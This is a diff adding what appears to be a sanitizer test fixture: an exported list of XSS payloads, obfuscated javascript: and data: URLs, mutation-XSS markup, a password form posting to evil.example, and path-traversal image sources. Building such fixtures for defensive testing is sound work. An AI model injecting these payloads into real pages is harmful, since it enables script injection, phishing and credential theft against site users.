@@ -1,0 +1,58 @@
+/** Addresses that must never be followed from a page of ours, in the spellings that browsers forgive. */
+const addresses = [
+  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)',
+  '\u0001javascript:alert(1)', 'javascript\t:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)',
+  '&#x6A;&#x61;&#x76;&#x61;script:alert(1)', '&#0000106avascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript://%0aalert(1)',
+  'vbscript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:image/svg+xml,<svg onload=alert(1)>',
+  'blob:https://evil.example/x', 'file:///etc/passwd', 'ftp://evil.example/x', 'ws://evil.example', 'view-source:https://evil.example', 'jar:https://evil.example!/x',
+  'about:blank', 'filesystem:https://evil.example/x', 'intent://evil#Intent;end', 'weixin://dl/chat', 'feed:javascript:alert(1)', 'https://user:secret@evil.example/',
+  'https://yinqiao.example@evil.example/', '/.//evil.example', '/x/..//evil.example', '//', 'https://', 'http://[bad', '',
+];
+
+/** Markup that runs, frames, posts or restyles. */
+const markup = [
+  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script >',
+  '<script>alert(1)', '<script src="data:,alert(1)">', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math href="javascript:alert(1)">x</math>',
+  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe onload=alert(1)>', '<frameset onload=alert(1)><frame src=x></frameset>',
+  '<object data=javascript:alert(1)></object>', '<object type=text/html data=//evil.example></object>', '<embed src=javascript:alert(1)>', '<applet code=x></applet>', '<portal src=//evil.example></portal>',
+  '<form action=//evil.example><input name=password><button>登录</button></form>', '<input onfocus=alert(1) autofocus>', '<button onclick=alert(1)>点</button>', '<button formaction=javascript:alert(1)>点</button>',
+  '<select onfocus=alert(1) autofocus><option>1</select>', '<textarea onfocus=alert(1) autofocus>', '<keygen autofocus onfocus=alert(1)>', '<isindex action=javascript:alert(1) type=image>',
+  '<textarea><img src=x onerror=alert(1)></textarea>', '<title><img src=x onerror=alert(1)></title>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<noembed><img src=x onerror=alert(1)></noembed>', '<noframes><img src=x onerror=alert(1)></noframes>',
+  '<template><script>alert(1)</script></template>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<slot onslotchange=alert(1)>x</slot>', '<x-card onclick=alert(1)>x</x-card>',
+  '<style>*{display:none}</style>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta charset=utf-7>', '<base href=//evil.example/>', '<base target=_top>', '<html manifest=//evil.example><body onload=alert(1)>x</body></html>',
+  '<head><script>alert(1)</script></head>', '<body background=javascript:alert(1)>x', '<bgsound src=javascript:alert(1)>', '<layer src=//evil.example></layer>',
+  '<video onerror=alert(1)><source src=x></video>', '<video poster=javascript:alert(1)></video>', '<audio src=x onerror=alert(1)></audio>', '<picture><source srcset="x" onerror=alert(1)></picture>', '<track default oncuechange=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>', '<dialog open onclose=alert(1)>x</dialog>', '<marquee onstart=alert(1)>x</marquee>', '<blink onclick=alert(1)>x</blink>', '<menu onclick=alert(1)><menuitem>x</menu>',
+  '<!-- <img src=x onerror=alert(1)> -->', '<!--><img src=x onerror=alert(1)>', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<!DOCTYPE html><img src=x onerror=alert(1)>', '<<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img src=x onerror=alert(1)', '</p><img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>',
+  '<img src=x:x onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">', '<img src=x onerror="&#97;lert(1)">', '<img\u000csrc=x\u000conerror=alert(1)>',
+  '<p onclick=alert(1)>x</p>', '<p ONMOUSEOVER=alert(1)>x</p>', '<p style="position:fixed;inset:0">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<p class="btn primary">x</p>', '<p id="app">x</p>',
+  '<p contenteditable onfocus=alert(1)>x</p>', '<p tabindex=1 onfocus=alert(1)>x</p>', '<p is="x-card">x</p>', '<p dir=rtl hidden popover>x</p>', '<p data-testid=x aria-label=y role=button>x</p>',
+  '<h2 id="boot" onclick=alert(1)>x</h2>', '<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</td></tr></table>', '<td colspan=99999>x</td>', '<th rowspan="-1" scope="javascript:">x</th>',
+  '<blockquote cite="javascript:alert(1)">x</blockquote>', '<ol start=javascript:1 reversed type=a><li value=9>x</li></ol>', '<hr onclick=alert(1) width=9999>', '<br clear=all onclick=alert(1)>', '<code onclick=alert(1)>x</code>',
+  '<a href="/news" onclick=alert(1)>x</a>', '<a href="/news" target=_self rel=opener>x</a>', '<a href="/news" ping=//evil.example download>x</a>', '<a name=app>x</a>', '<a href="https://evil.example" target=_top rel="opener">x</a>',
+  '<a href="/x"><a href="javascript:alert(1)">x</a></a>', '<map><area href=javascript:alert(1) shape=default></map>', '<figure onclick=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>',
+  '</div></div></main><script>alert(1)</script>', '</script><script>alert(1)</script>', ']]></script><img src=x onerror=alert(1)>', '\u2028<script>alert(1)</script>\u2029', '<p>\u202Egnp.exe</p>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<p title="<script>alert(1)</script>">x</p>', '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '<sc\0ript>alert(1)</sc\0ript>', '<script\0>alert(1)</script\0>',
+];
+
+/** Pictures that are not of this site's `/media`. */
+const pictures = [
+  'https://evil.example/x.png', '//evil.example/x.png', 'http://evil.example/x.png', 'data:image/svg+xml,<svg onload=alert(1)>', 'javascript:alert(1)', '/bff/user', '/media/../bff/user', '/media/%2e%2e/bff/user',
+  '/MEDIA/x.png', 'media/../x.png', '/mediax.png', 'https://evil.example/media/x.png', '\\\\evil.example\\x.png', 'blob:x', 'x', '',
+];
+
+const quoted = (address: string) => address.replaceAll('"', '&quot;');
+
+/** Every fragment once. */
+export const hostileHtml: readonly string[] = [
+  ...addresses.map((address) => `<a href="${quoted(address)}">看详情</a>`),
+  ...pictures.map((address) => `<p>图：<img src="${quoted(address)}" alt="x" onerror="alert(1)"></p>`),
+  ...markup,
+];
